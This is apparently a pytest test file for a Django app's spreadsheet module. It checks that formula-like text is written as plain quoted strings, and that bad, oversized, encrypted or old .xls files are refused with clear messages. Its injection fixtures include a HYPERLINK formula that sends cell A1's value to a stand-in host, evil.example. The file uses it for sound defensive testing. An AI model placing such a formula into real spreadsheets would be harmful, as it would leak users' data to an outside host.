"""Workbooks written safely and read with clear refusals (thidua.core.spreadsheets)."""

import datetime as dt
import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from thidua.core import spreadsheets
from thidua.core.spreadsheets import WorkbookError

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def written(values: list, *, write_only: bool) -> bytes:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Data") if write_only else book.active
    spreadsheets.header_row(sheet, ["Name"], [20])
    spreadsheets.write_rows(sheet, [[value] for value in values])
    return saved(book)


@pytest.mark.parametrize("write_only", [False, True])
def test_formula_like_text_reads_back_as_the_same_text_and_never_as_a_formula(write_only):
    content = written(INJECTIONS, write_only=write_only)

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == INJECTIONS
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_the_sheet_xml_holds_no_formula_element():
    content = written(INJECTIONS, write_only=True)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_ordinary_text_and_numbers_are_written_as_they_are():
    content = written(["Nguyễn Văn An", "a-b", 42], write_only=False)

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("Nguyễn Văn An", "s", False),
        ("a-b", "s", False),
        (42, "n", False),
    ]


def test_dates_are_shown_day_month_year():
    content = written([dt.date(2024, 3, 1)], write_only=True)

    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert cell.value == dt.datetime(2024, 3, 1)
    assert cell.number_format == "DD/MM/YYYY"


def test_a_code_sheet_feeds_a_list_validation_of_the_data_sheet():
    book = Workbook()
    data = book.active
    spreadsheets.header_row(data, ["Unit code"])
    codes = spreadsheets.code_sheet(
        book, "Units: all/any", ["Code", "Name"], [("CQ", "Cơ quan"), ("DN", "Doanh nghiệp")]
    )
    spreadsheets.list_validation(data, "A", codes.source, "Choose a code.")

    reread = load_workbook(io.BytesIO(saved(book)))
    [rule] = reread.worksheets[0].data_validations.dataValidation
    assert codes.title == "Units  all any"
    assert (rule.type, rule.formula1) == ("list", "'Units  all any'!$A$2:$A$3")
    assert str(rule.sqref) == "A2:A1001"
    assert [r[0] for r in reread[codes.title].iter_rows(min_row=2, values_only=True)] == [
        "CQ", "DN"
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("Award codes", "Award codes"),
        ("a" * 40, "a" * 31),
        ("[x]:y*z?", "x  y z"),
        ("'", "Sheet"),
    ],
)
def test_sheet_titles_follow_excels_rules(text, title):
    assert spreadsheets.sheet_title(text) == title


# ---- reading -------------------------------------------------------------------------------


def test_a_workbook_opens_read_only_with_values():
    book = spreadsheets.open_workbook(io.BytesIO(written(["x"], write_only=False)))
    try:
        assert book.read_only
        assert [r for r in book.worksheets[0].iter_rows(values_only=True)] == [("Name",), ("x",)]
    finally:
        book.close()


def test_a_file_that_is_not_a_workbook_is_refused_with_a_clear_message():
    with pytest.raises(WorkbookError) as refused:
        spreadsheets.open_workbook(io.BytesIO(b"full name;staff code\nAn;1\n"))

    assert refused.value.message == (
        "This file is not an Excel workbook (.xlsx). Save it as .xlsx and upload it again."
    )


def test_a_zip_that_is_not_a_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")

    with pytest.raises(WorkbookError, match="not an Excel workbook"):
        spreadsheets.open_workbook(buffer)


def test_a_50_mb_file_is_refused_before_it_is_read(settings):
    settings.THIDUA_IMPORT_MAX_BYTES = 20 * 1024 * 1024
    big = io.BytesIO(b"PK\x03\x04" + b"\0" * (50 * 1024 * 1024 - 4))

    with pytest.raises(WorkbookError) as refused:
        spreadsheets.open_workbook(big)

    assert refused.value.message == "The file is 50.0 MB; the limit is 20 MB."


def test_the_size_limit_is_a_setting(settings):
    settings.THIDUA_IMPORT_MAX_BYTES = 1024

    with pytest.raises(WorkbookError, match="the limit is"):
        spreadsheets.open_workbook(io.BytesIO(written(["x" * 3000], write_only=False)))


def ole_file(*streams: str) -> bytes:
    """The start of an OLE compound file naming its streams (as Excel's encrypted files do)."""
    names = b"".join(name.encode("utf-16-le") + b"\0\0" for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + names


def test_a_password_protected_workbook_is_refused_with_what_to_do():
    with pytest.raises(WorkbookError) as refused:
        spreadsheets.open_workbook(io.BytesIO(ole_file("EncryptionInfo", "EncryptedPackage")))

    assert "protected by a password" in refused.value.message


def test_an_old_xls_file_is_refused_with_what_to_do():
    with pytest.raises(WorkbookError) as refused:
        spreadsheets.open_workbook(io.BytesIO(ole_file("Workbook", "SummaryInformation")))

    assert "old Excel file (.xls)" in refused.value.message


def test_a_missing_sheet_is_named_in_the_refusal():
    book = spreadsheets.open_workbook(io.BytesIO(written(["x"], write_only=False)))
    try:
        with pytest.raises(WorkbookError) as refused:
            spreadsheets.sheet_by_title(book, ["People", "Người"])
        assert refused.value.message == "The workbook has no sheet named People."
        assert spreadsheets.sheet_by_title(book, ["people"], first_if_none=True).title == "Sheet"
    finally:
        book.close()


@pytest.mark.parametrize("write_only", [False, True])
def test_the_rows_of_a_sheet_are_counted_with_or_without_a_recorded_dimension(write_only):
    content = written([f"row {n}" for n in range(2500)], write_only=write_only)

    book = spreadsheets.open_workbook(io.BytesIO(content))
    try:
        assert spreadsheets.sheet_row_count(book.worksheets[0]) == 2501
    finally:
        book.close()


def test_row_tags_cut_by_the_read_buffer_are_counted_once(monkeypatch):
    content = written([f"r{n}" for n in range(3000)], write_only=True)
    book = spreadsheets.open_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    source = sheet._get_source
    monkeypatch.setattr(sheet, "_get_source", lambda: _SmallReads(source()))
    try:
        assert spreadsheets.sheet_row_count(sheet) == 3001
    finally:
        book.close()


class _SmallReads:
    """A stream that gives at most 7 bytes a read, so tags fall across reads."""

    def __init__(self, stream):
        self.stream = stream

    def read(self, size=-1):
        return self.stream.read(7)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.stream.close()
